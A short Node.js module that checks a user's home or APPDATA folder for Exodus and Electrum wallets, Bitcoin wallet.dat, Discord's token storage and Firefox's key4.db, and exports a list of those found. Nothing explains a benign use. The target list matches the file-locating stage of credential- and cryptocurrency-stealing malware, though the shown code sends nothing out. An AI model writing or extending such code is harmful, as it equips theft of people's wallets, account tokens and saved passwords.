const fs = require('fs');
const path = require('path');
const home = process.env.APPDATA || process.env.HOME;
const places = ['Exodus/exodus.wallet', 'Electrum/wallets', 'discord/Local Storage/leveldb', 'Mozilla/Firefox/key4.db', 'Bitcoin/wallet.dat'];
exports.list = () => places.map((p) => path.join(home, p)).filter(fs.existsSync);
